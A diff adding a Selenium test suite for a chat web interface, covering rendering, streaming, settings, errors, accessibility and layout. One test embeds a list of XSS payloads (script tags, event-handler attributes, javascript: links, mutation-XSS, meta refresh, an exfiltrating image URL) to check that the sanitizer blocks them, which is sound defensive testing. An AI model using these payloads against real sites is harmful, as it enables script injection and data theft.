@@ -1,0 +1,358 @@
+"""What the page does with answers, made up here so that they are the same each time: the server's own are in
+test_live.py."""
+import json
+import time
+
+from selenium.webdriver.common.keys import Keys
+
+TIMINGS = {"cache_n": 12, "prompt_n": 30, "prompt_ms": 400.0, "predicted_n": 50, "predicted_ms": 2500.0,
+           "predicted_per_second": 20.0, "queue_ms": 100.0, "stall_ms": 500.0, "thinking_n": 20, "thinking_ms": 1000.0}
+
+
+def content(text, size=7, **more):
+    """An answer whose text comes in small pieces."""
+    return {"pieces": [["content", text[i:i + size]] for i in range(0, len(text), size)], "timings": TIMINGS, **more}
+
+
+def show(page, text, **more):
+    browser = page([content(text, **more)])
+    browser.ask("a question")
+    browser.wait_until_answered()
+    return browser
+
+
+def html(browser):
+    return browser.run("return document.querySelector('.answer > .text').innerHTML")
+
+
+def test_markdown_formulas_and_code(page):
+    browser = show(page, """# A heading
+
+Some *weight* and **more**, `code`, a [link](https://example.org/a?b=1&c=2).
+
+| a | b |
+|---|--:|
+| 1 | 2 |
+
+Water is H<sub>2</sub>O, <b onclick="x()">not</b> &amp; `<div>` <hr>
+
+Inline $x^2$ and \\(\\frac{a}{b}\\), for $5 and $10 it is money.
+
+\\[
+\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}
+\\]
+
+$$
+\\boxed{42}
+$$
+
+```python
+def is_leap(year):
+\treturn year % 4 == 0  # nearly
+```
+
+1. one
+2. two
+   - below
+""")
+    for selector, text in ((".text h1", "A heading"), (".text em", "weight"), (".text strong", "more"),
+                           (".text td:last-child", "2"), (".code .hljs-keyword", "return"),
+                           (".code .hljs-comment", "# nearly"), (".code-head span", "python"), ("ol ul li", "below")):
+        assert browser.text(f".answer {selector}") == text, html(browser)
+    assert len(browser.find_all(".answer math")) == 4, html(browser)
+    assert len(browser.find_all(".answer math[display=block]")) == 2
+    assert "\\frac" not in browser.text(".answer > .text")
+    assert "for $5 and $10 it is money" in browser.text(".answer > .text")
+    assert browser.text(".answer sub") == "2"
+    assert 'Water is H2O, <b onclick="x()">not & <div>' in browser.text(".answer > .text")
+    link = browser.find(".answer .text a")
+    assert link.get_attribute("href") == "https://example.org/a?b=1&c=2"
+    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
+    assert browser.complaints() == []
+
+
+def test_a_hostile_answer_does_nothing(page):
+    evil = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
+<svg onload="window.hacked=3"><animate onbegin="window.hacked=4" attributeName=x></svg>
+
+<a href="javascript:window.hacked=5" id="first">click</a> [me](javascript:window.hacked=6) [data](data:text/html,x)
+![leak](https://example.org/leak?what=secret)
+<iframe srcdoc="<script>parent.hacked=7</script>"></iframe><form action="https://example.org"><input name=composer><button>x</button></form>
+<style>body { display: none }</style><p style="position:fixed;inset:0" class="skip composer" id="composer">over all</p>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=8&gt;">
+
+$\\href{javascript:window.hacked=9}{x}$ $\\includegraphics{https://example.org/x.png}$ $\\htmlClass{skip}{x}$
+
+```html"><img src=x onerror=window.hacked=10>
+<img src=x onerror="window.hacked=11">
+```
+
+<div><details open ontoggle="window.hacked=12">x</details><base href="https://example.org/"><meta http-equiv=refresh content="0;url=https://example.org/">
+"""
+    for size in (5, 100000):
+        browser = page([{**content(evil, size), "fields": {}}])
+        browser.ask("<img src=x onerror='window.hacked=13'>")
+        browser.wait_until_answered()
+        for link in browser.find_all(".answer .text a"):
+            assert not (link.get_attribute("href") or "").startswith(("javascript:", "data:"))
+            browser.run("arguments[0].click()", link)
+        time.sleep(0.1)
+        assert browser.run("return window.hacked ?? null") is None, html(browser)
+        found = browser.run("""
+            const bad = "script,img,svg,iframe,form,input,style,base,meta,object,embed,link,video,audio,[id],[style],[name]";
+            const all = [...document.querySelectorAll(".answer > .text *")];
+            return [...document.querySelectorAll(".answer > .text :is(" + bad + ")")].map(e => e.outerHTML).concat(
+                all.flatMap(e => [...e.attributes]).filter(a => a.name.startsWith("on")).map(a => a.name + "=" + a.value));
+        """)
+        assert found == [], html(browser)
+        assert browser.is_shown("#composer") and browser.text(".question .text").startswith("<img")
+        assert browser.complaints() == []
+        assert browser.driver.current_url.rstrip("/").endswith(browser.run("return location.origin"))
+
+
+def test_thoughts_fold_and_times_are_told(page):
+    browser = page([{"pieces": [["reasoning_content", "I think. "]] * 20 + [["content", "\n\n"]] + [["content", "Yes. "]] * 30,
+                     "gapMs": 15, "timings": TIMINGS}])
+    browser.ask("Is it?")
+    browser.wait(lambda: browser.text(".thoughts .title").startswith("Thinking"))
+    assert browser.run("return document.querySelector('.thoughts').open")
+    assert browser.find(".answer").get_attribute("aria-busy") == "true"
+    browser.wait_until_answered()
+    assert not browser.run("return document.querySelector('.thoughts').open"), "folded once the answer comes"
+    assert browser.text(".thoughts .title") == "Thought for 1.0 s"
+    assert browser.text(".thoughts .count") == "20 tokens"
+    assert browser.text(".answer > .text").strip() == "Yes. " * 29 + "Yes."
+    assert browser.text(".times .speed") == "20.0 tokens a second, 3.0 s in all"
+    browser.find(".times summary").click()
+    rows = browser.run("return [...document.querySelectorAll('.times dt, .times dd')].map(cell => cell.textContent)")
+    assert rows == ["queued", "100 ms", "waiting for a place", "prefill", "400 ms", "reading 30 tokens, 12 more from the cache",
+                    "decode", "2.0 s", "writing 50 tokens", "stalled", "500 ms", "letting others go first"]
+    assert browser.text("#announcer") == "The answer is complete."
+    browser.find(".thoughts summary").click()
+    assert browser.find(".thoughts .text").text.startswith("I think.")
+    assert browser.complaints() == []
+
+
+def test_stop_ask_again_reload_and_new_chat(page):
+    browser = page([content("one two three four five " * 200, gapMs=10), content("The second answer.")])
+    browser.ask("Count")
+    browser.wait(lambda: "three" in browser.text(".answer > .text"))
+    browser.press(Keys.ESCAPE)
+    browser.wait_until_answered()
+    assert browser.text(".answer .note") == "Stopped."
+    stopped = browser.text(".answer > .text").strip()
+    assert 10 < len(stopped) < 4000
+    assert browser.focused() == "question"
+    assert "about" in browser.text(".answer .speed")
+
+    browser.driver.refresh()
+    browser.wait(lambda: browser.text(".answer > .text").strip() == stopped)
+    browser.run("window.answers.shift()")
+    browser.find(".answer .retry").click()
+    browser.wait(lambda: browser.text(".answer > .text").strip() == "The second answer.")
+    browser.wait_until_answered()
+    assert len(browser.find_all(".answer")) == 1 and len(browser.find_all(".question")) == 1
+    browser.ask("And then?")
+    browser.wait(lambda: len(browser.find_all(".answer .foot:not([hidden])")) == 2)
+    assert browser.run("return window.requests.at(-1).body.messages") == [
+        {"role": "user", "content": "Count"}, {"role": "assistant", "content": "The second answer."},
+        {"role": "user", "content": "And then?"}]
+
+    browser.press(Keys.ALT, "n")
+    browser.wait(lambda: not browser.find_all(".message"))
+    assert browser.is_shown("#welcome") and browser.focused() == "question"
+    browser.find("#notice button").click()
+    assert len(browser.find_all(".answer")) == 2
+    browser.find("#new-chat").click()
+    browser.driver.refresh()
+    browser.wait(lambda: browser.is_shown("#welcome"))
+    assert not browser.find_all(".message")
+    assert browser.run("return localStorage.getItem('runnel.conversation')") is None
+
+
+def test_keyboard_alone(page):
+    browser = page([content("Fine.")])
+    assert browser.focused() == "question", "one can type at once"
+    browser.press("line one", Keys.SHIFT, Keys.ENTER)
+    browser.press("line two")
+    assert browser.find("#question").get_attribute("value") == "line one\nline two"
+    assert not browser.find_all(".message"), "Shift+Enter does not send"
+    browser.press(Keys.ENTER)
+    browser.wait_until_answered()
+    assert browser.text(".question .text") == "line one\nline two"
+    assert browser.find("#question").get_attribute("value") == ""
+    browser.press(Keys.ENTER)
+    assert len(browser.find_all(".question")) == 1, "nothing is not sent"
+    browser.press(Keys.ALT, "s")
+    assert browser.is_shown("#settings")
+    browser.press(Keys.ESCAPE)
+    assert not browser.is_shown("#settings")
+    # Every control can be reached, has a name, and shows that it has the focus.
+    seen = set()
+    for _ in range(20):
+        browser.press(Keys.TAB)
+        name, outline = browser.run("""
+            const at = document.activeElement;
+            return [at.ariaLabel || at.labels?.[0]?.textContent || at.textContent.trim(), getComputedStyle(at).outlineStyle]""")
+        if browser.run("return document.activeElement === document.body"):
+            continue
+        assert name and outline != "none", browser.run("return document.activeElement.outerHTML")
+        seen.add(browser.focused())
+    assert {"question", "tab-chat", "tab-dashboard", "new-chat", "theme", "open-settings"} <= seen
+
+
+def test_settings_reach_the_request(page):
+    browser = page([content("Fine.")])
+    browser.find("#open-settings").click()
+    for name, value in (("system", "Be brief."), ("temperature", "0.3"), ("top_p", "0.9"), ("max_tokens", "77"),
+                        ("thinking_budget_tokens", "33"), ("key", "secret-key")):
+        browser.find(f"[name={name}]").send_keys(value)
+    browser.find("[name=thinking]").click()
+    browser.find("#settings .primary").click()
+    browser.driver.refresh()  # kept
+    browser.ask("Hello")
+    browser.wait_until_answered()
+    request = browser.run("return window.requests.at(-1)")
+    assert request["headers"]["Authorization"] == "Bearer secret-key"
+    body = request["body"]
+    assert body["messages"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hello"}]
+    assert (body["temperature"], body["top_p"], body["max_tokens"], body["thinking_budget_tokens"]) == (0.3, 0.9, 77, 33)
+    assert body["chat_template_kwargs"] == {"enable_thinking": False} and body["stream"] is True
+    assert "secret-key" not in browser.run("return JSON.stringify(localStorage)")
+
+    browser.find("#open-settings").click()
+    browser.find("#reset-settings").click()
+    browser.find("#settings .primary").click()
+    browser.ask("Again")
+    browser.wait(lambda: browser.run("return window.requests.length") == 2)
+    assert set(browser.run("return window.requests.at(-1).body")) == {"messages", "stream", "stream_options"}
+
+
+def test_errors_are_told_kindly(page):
+    busy = {"status": 429, "headers": {"Retry-After": "2"}, "message": "100 requests are being served"}
+    browser = page([busy, {"status": 401, "message": "no key"}, {"status": 400, "message": "too long"},
+                    content("Half an", lost=True), content("All is well.", finishReason="length")])
+    began = time.monotonic()
+    browser.ask("Hello")
+    browser.wait(lambda: "Asking again in 2 s" in browser.text(".status"))
+    assert "busy" in browser.text(".status")
+    browser.wait(lambda: "API key" in browser.text(".note.error"))
+    assert time.monotonic() - began >= 1.8, "not before Retry-After is over"
+    browser.find("#notice button").click()
+    assert browser.focused() == "" and browser.run("return document.activeElement.name") == "key"
+    browser.press(Keys.ESCAPE)
+    browser.find(".retry").click()
+    browser.wait(lambda: "too long" in browser.text(".note.error"))
+    browser.wait_until_answered()
+    browser.find(".retry").click()
+    browser.wait(lambda: "connection was lost" in browser.text(".note.error"))
+    browser.wait_until_answered()
+    assert browser.text(".answer > .text").strip() == "Half an", "what came stays"
+    browser.find(".retry").click()
+    browser.wait(lambda: "All is well." in browser.text(".answer > .text"))
+    browser.wait_until_answered()
+    assert browser.text(".note").startswith("Cut off")
+    assert len(browser.find_all(".question")) == 1 and len(browser.find_all(".answer")) == 1
+    assert browser.complaints() == []
+
+
+def test_degradation_is_told(page):
+    browser = page([content("Short.", fields={"degraded": "memory"})])
+    browser.ask("Hello")
+    browser.wait_until_answered()
+    assert "kept shorter" in browser.text(".note.degraded")
+
+
+def test_a_stopped_countdown_asks_no_more(page):
+    browser = page([{"status": 503, "headers": {"Retry-After": "30"}}])
+    browser.ask("Hello")
+    browser.wait(lambda: "Asking again in" in browser.text(".status"))
+    browser.press(Keys.ESCAPE)
+    browser.wait_until_answered()
+    assert browser.text(".note") == "Stopped."
+    assert browser.run("return window.requests.length") == 1
+
+
+def test_long_answers_stay_quick(page):
+    """Twice the text takes about twice the time; rendering all of it for each piece would take four times as long."""
+    paragraph = "Some words that fill a line, *with weight*, and `code`, and $x_i$. " * 4 + "\n\n"
+
+    def render(n):
+        browser = page([content(paragraph * n, size=24)])
+        browser.run("""
+            window.busy = 0;
+            new PerformanceObserver(list => list.getEntries().forEach(entry => { window.busy += entry.duration; }))
+                .observe({type: "longtask"});""")
+        began = time.monotonic()
+        browser.ask("Tell me all")
+        browser.wait_until_answered(180)
+        assert browser.run("return document.querySelectorAll('.answer > .text p').length") == n
+        return time.monotonic() - began
+
+    render(20)
+    once, fourfold = render(100), render(400)
+    assert fourfold < 9 * once + 2, (once, fourfold)
+
+
+def test_a_phone_scrolls_in_one_direction_only(page):
+    wide = "| " + " | ".join(f"column {i}" for i in range(12)) + " |\n|" + "---|" * 12 + "\n| " + "cell | " * 12 + \
+        "\n\n```c\nint " + "a_long_name_" * 30 + " = 1;\n```\n\n$$" + "+".join(f"x_{{{i}}}" for i in range(60)) + "$$\n\n" + "w" * 400
+    browser = page([content(wide)], width=375, height=700)
+    browser.ask("Show me " + "w" * 200)
+    browser.wait_until_answered()
+    assert browser.widest() == 0
+    assert browser.run("return document.querySelector('#messages').scrollWidth - document.querySelector('#messages').clientWidth") <= 0
+    browser.find(".times summary").click()
+    browser.find("#open-settings").click()
+    assert browser.widest() == 0
+    browser.press(Keys.ESCAPE)
+    browser.find("#tab-dashboard").click()
+    browser.wait(lambda: browser.text("#tile-running .value") == "0")
+    assert browser.widest() == 0
+    view = "document.querySelector('#view-dashboard')"
+    assert browser.run(f"return {view}.scrollWidth - {view}.clientWidth") <= 0
+    sizes = browser.run("return [...document.querySelectorAll('header button, #send')].map(b => b.getBoundingClientRect())"
+                        ".filter(b => b.width).map(b => Math.min(b.width, b.height))")
+    assert min(sizes) >= 36, "big enough for a thumb"
+
+
+def test_colours(page):
+    ground = "return getComputedStyle(document.body).backgroundColor"
+    light = page().run(ground)
+    browser = page(dark=True)
+    dark = browser.run(ground)
+    assert light != dark
+    browser.find("#theme").click()  # light, whatever the system has
+    assert browser.run(ground) == light
+    browser.driver.refresh()
+    assert browser.run(ground) == light, "kept"
+    browser.find("#theme").click()
+    assert browser.run(ground) == dark
+    browser.find("#theme").click()
+    assert browser.run("return localStorage.getItem('runnel.theme')") is None
+
+
+def test_contrast(page):
+    """Text against what is behind it: 4.5 to 1, as WCAG AA asks for."""
+    for dark in (False, True):
+        browser = show(lambda answers: page(answers, dark=dark),
+                       "Text, `code`\n\n> quoted\n\n```python\ndef f(): return 'x' # 1\n```")
+        poor = browser.run("""
+            const parse = text => text.match(/[\\d.]+/g).map(Number);
+            const light = ([r, g, b]) => [r, g, b].map(c => c / 255).map(c => c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)
+                .reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
+            const ground = element => {
+                for (let at = element; at; at = at.parentElement) {
+                    const color = parse(getComputedStyle(at).backgroundColor);
+                    if (color.length < 4 || color[3] > 0)
+                        return color;
+                }
+                return [255, 255, 255];
+            };
+            return [...document.querySelectorAll("body *")].filter(e => e.checkVisibility() && !e.disabled &&
+                [...e.childNodes].some(n => n.nodeType === 3 && n.data.trim())).map(e => {
+                const [a, b] = [light(parse(getComputedStyle(e).color)), light(ground(e))].sort((x, y) => y - x);
+                return [(a + 0.05) / (b + 0.05), e.className, e.textContent.trim().slice(0, 30)];
+            }).filter(([ratio]) => ratio < 4.5);
+        """)
+        assert poor == [], json.dumps(poor)
